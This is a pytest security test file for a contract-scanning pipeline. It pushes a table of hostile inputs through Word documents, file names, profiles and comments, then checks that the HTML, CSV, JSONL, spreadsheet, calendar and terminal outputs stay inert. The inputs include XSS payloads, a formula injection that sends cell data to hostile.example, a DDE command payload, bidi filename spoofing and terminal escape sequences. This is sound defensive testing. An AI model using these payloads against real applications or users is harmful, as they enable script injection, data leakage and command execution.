# SPDX-License-Identifier: Apache-2.0
"""Hostile clauses, names, profiles and comments, from Word files through a scan to every output.

A row of the table stands in a file's name, its folder, its headings, the names of its parties and
in clauses that are flagged; in the profile's name, reasons and values; and in people's comments.
"""

import csv
import hashlib
import io
import json
import unicodedata
from dataclasses import replace
from html.parser import HTMLParser

import docx
import openpyxl
import pytest

from pipeline import api
from pipeline.assess import apply_decisions
from pipeline.config import Config
from pipeline.domain.decision import Decision, Verdict
from pipeline.report.formats import FORMATS, Material, render
from pipeline.report.html import render_report
from pipeline.report.outputs import write_outputs
from pipeline.report.records import public_id
from pipeline.report.terminal import open_console, print_scan
from pipeline.report.visible import visible
from pipeline.run.standing import settle

from .browser import start_chromium, watch

HOSTILE = {
    "script": "<script>window.hit=1;alert(1)</script>",
    "handler": '" onmouseover="window.hit=1" autofocus onfocus="alert(1)',
    "picture": "<img src=x onerror=alert(1)>",
    "drawing": "<svg onload=alert(1)>",
    "end of style": "</style></title><script>alert(1)</script>",
    "comment": "<!-- <script>alert(1)//",
    "frame": '<iframe src="https://hostile.example/x"></iframe>',
    "style sheet": '<link rel=stylesheet href="https://hostile.example/x.css">',
    "refresh": '<meta http-equiv=refresh content="0;url=https://hostile.example/">',
    "form": '<form action="https://hostile.example/"><button>Sign</button></form>',
    "base": '<base href="https://hostile.example/">',
    "link": '[sign](javascript:alert(1)) <a href="javascript:alert(1)">sign</a>',
    "template": "{{ 7*7 }}{% raw %}{# x",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "formula": '=HYPERLINK("https://hostile.example/?"&A1,"Sign")',
    "command": "=cmd|' /C calc'!A0",
    "plus and at": "+1@SUM(1+1)*cmd",
    "full-width formula": "\uff1d1+1",
    "hidden formula": "\u200b=1+1",
    "right to left": "sign\u202efdp.exe\u202c",
    "separators": "a\u2028<script>alert(1)</script>\u2029b",
    "terminal": "\x1b[2J\x1b[31m\x1b]0;owned\x07red\x9b2J",
    "lines": "a\r\nRank 1 (light)\n=1+1",
}
# What a page of the report is made of.
_TAGS = frozenset(
    {"html", "head", "meta", "title", "style", "body", "a", "header", "main", "nav", "section"}
    | {"footer", "article", "h1", "h2", "h3", "h4", "h5", "h6", "p", "strong", "em", "span", "div"}
    | {"table", "caption", "thead", "tbody", "tr", "th", "td", "ul", "ol", "li", "dl", "dt", "dd"}
    | {"q", "blockquote", "mark", "details", "summary", "svg", "rect", "br"}
)
_READ_PAGE = """() => {
  const all = [...document.querySelectorAll('*')];
  const attributes = all.flatMap(one => [...one.attributes].map(each => each.name));
  return {
    tags: [...new Set(all.map(one => one.tagName.toLowerCase()))],
    handlers: attributes.filter(name => name.startsWith('on') || name === 'src'),
    hrefs: [...document.querySelectorAll('[href]')].map(one => one.getAttribute('href')),
    hit: window.hit === undefined,
    text: document.body.textContent,
  };
}"""
_IN_FILES = "".join(map(chr, (*range(0x20), 0x7F, *range(0x80, 0xA0))))


def _writable(text):
    """Returns what XML and thus Word can hold of a text."""
    return "".join(one for one in text if one not in _IN_FILES)


def _file_name(number, text):
    return f"{text.replace('/', chr(0x2215))} {number:02}.docx"


def _write_paper(path, text):
    text = _writable(text)
    document = docx.Document()
    document.add_heading(f"{text} Subcontract", 0)
    document.add_paragraph(
        f"This Agreement is made between Northgate {text} plc (the \u201cPrime\u201d) and "
        f"Hillside {text} Trust (the \u201cProvider\u201d)."
    )
    document.add_heading(f"1. {text}", 1)
    for clause in (
        f"1.1 The Provider shall deliver the Services solely under the Programme Brand {text} and "
        "shall not use its own name, logo or livery in any dealings with Participants.",
        f"1.2 {text} The Provider shall not make any public statement about the Programme {text} "
        "without the prior written consent of the Prime.",
        f"{text} The Provider shall adopt and champion the values of honesty {text} of the Prime.",
        f"1.3 The Prime may terminate this Agreement {text} at any time without "
        "cause by giving the Provider 7 days' notice.",
        f"1.4 This Agreement starts on 1 April 2027 and expires on 31 March 2030 {text}.",
    ):
        document.add_paragraph(clause)
    document.save(path)


def _profile(texts):
    reason = json.dumps(" ".join(texts))
    values = json.dumps([f"Honesty {text}" for text in texts])
    return (
        f"name = {json.dumps(texts[0])}\nvalues = {values}\n"
        f'[categories.mandatory_branding]\nstance = "red_line"\nreason = {reason}\n'
        f'[categories.publicity_gagging]\nstance = "red_line"\nreason = {reason}\n'
    ).replace("\x7f", "\\u007f")


@pytest.fixture(scope="module")
def scanned(tmp_path_factory):
    """A scan of one file a row, in two offers, with a hostile profile and hostile comments."""
    root = tmp_path_factory.mktemp("hostile")
    texts = list(HOSTILE.values())
    for number, text in enumerate(texts):
        offer = root / "papers" / ("<b>offer</b>" if number % 2 else "\x1b[31m=1+1")
        offer.mkdir(parents=True, exist_ok=True)
        _write_paper(offer / _file_name(number, text), text)
    profile = root / "profile.toml"
    profile.write_text(_profile(texts), encoding="utf-8")
    config = Config(profiles=(profile,), jobs=2)
    book = api.load_book(config)
    result = api.scan([root / "papers"], config=config, book=book)
    documents = [_commented(one, texts) for one in result.documents]
    return settle(result, documents, book=book), book


def _commented(document, texts):
    taken = {
        one.id: Decision(
            public_id(document.name, one.id),
            document.name,
            document.sha256,
            Verdict.AGREE,
            comment=texts[number % len(texts)],
            who=texts[-1 - number % len(texts)],
            when="2026-11-23",
        )
        for number, one in enumerate(document.findings)
    }
    return replace(document, findings=apply_decisions(document.findings, taken))


@pytest.fixture(scope="module")
def made(scanned):
    """The files of every format by name, as text."""
    result, book = scanned
    material = Material(result, book.packs, weights=book.weights)
    files = {}
    for one in FORMATS.values():
        files |= render(one, material)
    return files


@pytest.fixture(scope="module")
def page(scanned, tmp_path_factory):
    """What a browser makes of the first page, with what was heard of it."""
    result, book = scanned
    folder = tmp_path_factory.mktemp("report")
    write_outputs(result, folder, packs=book.packs, formats=("html",))
    with start_chromium() as browser, watch(browser) as watched:
        watched.open(folder / "report" / "index.html")
        watched.page.mouse.move(300, 300)
        watched.page.keyboard.press("Tab")
        read = watched.page.evaluate(_READ_PAGE)
    return read, watched


def _quoted(result):
    return [finding.quote for document in result.documents for finding in document.findings]


@pytest.mark.parametrize("row", HOSTILE)
def test_every_row_comes_through_the_scan_into_a_quote_and_a_name(scanned, row):
    """Else the other tests would hold of nothing."""
    result, _ = scanned
    text = HOSTILE[row]
    assert any(_file_name(0, text)[:-8] in one.name for one in result.documents)
    # Reading takes invisible characters out of clauses, and says so.
    (word, *_) = "".join(one if one.isprintable() else " " for one in _writable(text)).split()
    assert any(word in quote for quote in _quoted(result))


def test_no_row_runs_asks_for_anything_or_adds_an_element(page):
    read, watched = page
    assert watched.quiet, watched
    assert len(watched.requests) == 1
    assert set(read["tags"]) <= _TAGS
    assert read["handlers"] == []
    assert all(one.startswith("#") for one in read["hrefs"])
    assert read["hit"]


@pytest.mark.parametrize("row", HOSTILE)
def test_every_row_is_shown_as_the_text_it_is(page, row):
    read, _ = page
    shown = visible(HOSTILE[row], keep="\n")
    assert " ".join(shown.split()) in " ".join(read["text"].split())
    assert not [one for one in read["text"] if _is_unseen(one)]


def _is_unseen(character):
    hidden = unicodedata.category(character) in {"Cc", "Zl", "Zp"} and character != "\n"
    return hidden or character in "\u202e\u202c\u200b"


def test_pages_of_many_papers_and_offers_hold_them_as_text_too(scanned):
    result, book = scanned
    copies = [
        _renamed(one, f"{n} {one.name}", f"{one.offer} {n} {place // 2}")
        for n in range(3)
        for place, one in enumerate(result.documents)
    ]
    pages = render_report(settle(result, copies, book=book), packs=book.packs)
    kinds = [name.partition("-")[0] for name in pages]
    assert kinds.count("paper") == len(copies)
    assert kinds.count("offer") > 20
    for page in pages.values():
        read = _Tags(page.decode("utf-8"))
        assert read.found <= _TAGS
        assert not [one for one in page.decode("utf-8") if _is_unseen(one)]


def _renamed(document, name, offer):
    assessment = replace(document.assessment, document=name)
    digest = hashlib.sha256(name.encode()).hexdigest()
    return replace(document, name=name, offer=offer, sha256=digest, assessment=assessment)


class _Tags(HTMLParser):
    def __init__(self, page):
        super().__init__()
        self.found = set()
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.found.add(tag)


@pytest.mark.parametrize("name", ["ranking.csv", "clauses.csv"])
def test_no_cell_of_a_table_is_taken_for_a_formula(made, name):
    rows = list(csv.reader(io.StringIO(made[name].decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert len({len(row) for row in rows}) == 1
    started = [cell.lstrip(_IN_FILES + "\u200b\u2028\u2029\u202e ")[:1] for cell in cells]
    assert not [one for one in started if one and one in "=+-@\uff1d\uff0b\uff0d\uff20"]


@pytest.mark.parametrize(
    "name",
    ["findings.jsonl", "documents.jsonl", "diagnostics.jsonl", "offers.jsonl", "queue.jsonl"],
)
def test_a_line_of_records_is_one_object_without_controls(made, name):
    text = made[name].decode("utf-8")
    assert not [one for one in text if _is_unseen(one)]
    assert all(isinstance(json.loads(line), dict) for line in text.split("\n") if line)


def test_a_workbook_holds_texts_alone(made):
    book = openpyxl.load_workbook(io.BytesIO(made["clauses.xlsx"]))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert any("HYPERLINK" in str(cell.value) for cell in cells)
    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]


def test_a_calendar_has_no_event_or_line_that_a_paper_wrote(made, scanned):
    result, _ = scanned
    lines = made["dates.ics"].decode("utf-8").split("\r\n")
    dated = [one for paper in result.documents for one in paper.moments if one.day]
    assert lines.count("BEGIN:VEVENT") <= len(dated)
    assert dated
    assert not [one for line in lines for one in line if _is_unseen(one) or one == "\n"]


def test_records_give_back_every_quote_as_it_stood(made, scanned):
    result, _ = scanned
    lines = made["findings.jsonl"].decode("utf-8").splitlines()
    assert sorted(json.loads(line)["quote"] for line in lines) == sorted(_quoted(result))


def test_a_terminal_gets_no_control_from_a_paper(scanned):
    result, _ = scanned
    stream = io.StringIO()
    print_scan(result, console=open_console(stream))
    text = stream.getvalue()
    assert "\\x1b[2J" in text
    assert not [one for one in text if _is_unseen(one)]
